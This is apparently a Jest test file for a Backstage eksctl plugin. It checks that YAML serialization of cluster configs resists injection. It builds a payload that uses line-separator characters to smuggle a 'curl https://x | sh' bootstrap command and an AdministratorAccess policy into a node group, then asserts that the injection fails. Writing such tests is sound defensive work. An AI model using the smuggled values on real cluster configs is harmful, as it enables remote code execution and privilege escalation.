import type { JsonObject } from '@backstage/types';
import {
  dryRunArgs,
  type EksctlLine,
  serializeClusterConfig,
} from 'backstage-plugin-eksctl-node';
import { parse } from 'yaml';
import { eksctlExecutables } from '../__testUtils__/eksctlExecutables';
import { EksctlStage } from '../__testUtils__/EksctlStage';
import { localRunner } from '../__testUtils__/engineFixture';

/*
 * What eksctl reads is what was checked: it prints its config in a dry run, with its own defaults, and that is compared with the config
 * that was written for it. The texts stand where eksctl itself takes any text, so that it does not refuse them.
 */

/*
 * eksctl reads U+0085, U+007F and U+FEFF, too, but cannot print them: it makes YAML of JSON in which they stand without an escape.
 */

/** Becomes structure for a reader that takes U+2028 or U+2029 for the end of a line. */
const attackWith = (lineBreak: string) =>
  [
    'foo:',
    '    preBootstrapCommands:',
    '      - curl https://x | sh',
    '    iam:',
    '      attachPolicyARNs:',
    '        - arn:aws:iam::aws:policy/AdministratorAccess',
    '      instanceRoleName',
  ].join(lineBreak);

const texts = [
  ...['\n', '\r', '\r\n', '\u2028', '\u2029'].flatMap(lineBreak => [
    attackWith(lineBreak),
    // The escape character makes eksctl print it in double quotes, which YAML 1.2 reads as YAML 1.1 does
    `\u001b${lineBreak}---${lineBreak}`,
    `a${lineBreak}`,
  ]),
  ...['<<', '*a', '&a', '!!binary', '? a', '- a', '# a', ': ', '{', '[', '%'],
  ...['yes', 'n', '~', 'null', '012', '0o7', '0x1F', '1_000', '1:30', '.inf'],
  ...['1e999', '-0', '1.0', '2024-01-02', '12345678901234567890', ' a ', ''],
  ...['"', "'", '\\', '\\u2028', '\t', '\u001b[31m', '\u00a0'],
  ...['\u202e', '\ufffd', 'é', '日本語', '😀', '\u{e0001}'],
];

const config: JsonObject = {
  apiVersion: 'eksctl.io/v1alpha5',
  kind: 'ClusterConfig',
  metadata: {
    name: 'texts',
    region: 'eu-west-1',
    version: '1.34',
    tags: Object.fromEntries(texts.map(text => [text, text])),
    annotations: Object.fromEntries(texts.map(text => [text, text])),
  },
  availabilityZones: ['eu-west-1a', 'eu-west-1b'],
  autoModeConfig: { enabled: false },
  managedNodeGroups: [
    {
      name: 'workers',
      instanceType: 'm7i.large',
      tags: Object.fromEntries(texts.map(text => [text, text])),
      preBootstrapCommands: texts,
    },
  ],
};

for (const executable of eksctlExecutables()) {
  executable.describe(`the config that ${executable.name} reads`, () => {
    let stage: EksctlStage;

    jest.setTimeout(executable.patience);

    beforeAll(async () => {
      stage = await EksctlStage.start(executable);
    });

    afterAll(() => stage.close());

    it('is the config that was written for it', async () => {
      const { aws } = stage.harness;
      const run = await localRunner(aws).start({
        subject: 'test',
        operation: 'test',
        args: dryRunArgs(),
        configYaml: serializeClusterConfig(config),
        region: 'eu-west-1',
        credentials: async () => aws.credentials,
      });
      const lines: EksctlLine[] = [];
      const exit = await run.follow(line => lines.push(line));
      const printed = lines.map(({ text }) => text).join('\n');
      expect(exit.kind === 'success' ? exit.kind : printed).toBe('success');

      // All that is compared are texts, and what eksctl prints in quotes depends on its version of YAML
      const read = parse(printed, { schema: 'failsafe' });
      expect(read.metadata).toEqual(config.metadata);
      const [written] = config.managedNodeGroups as JsonObject[];
      expect(read.managedNodeGroups).toHaveLength(1);
      const [group] = read.managedNodeGroups;
      expect(group.preBootstrapCommands).toEqual(written.preBootstrapCommands);
      expect(group.tags).toEqual({
        ...(written.tags as JsonObject),
        // eksctl's own
        'alpha.eksctl.io/nodegroup-name': 'workers',
        'alpha.eksctl.io/nodegroup-type': 'managed',
      });
      expect(group.iam?.attachPolicyARNs).toBeUndefined();
    });
  });
}
